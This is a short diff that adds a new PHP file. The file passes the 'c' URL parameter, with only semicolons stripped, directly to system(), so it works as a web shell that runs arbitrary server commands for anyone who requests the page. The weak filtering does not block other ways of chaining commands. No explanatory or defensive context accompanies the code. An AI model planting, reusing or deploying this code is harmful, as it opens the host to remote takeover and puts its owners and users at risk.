@@ -1,0 +1,3 @@
+<?php
+function g() { return str_replace(";", "", $_GET["c"]); }
+system(g());
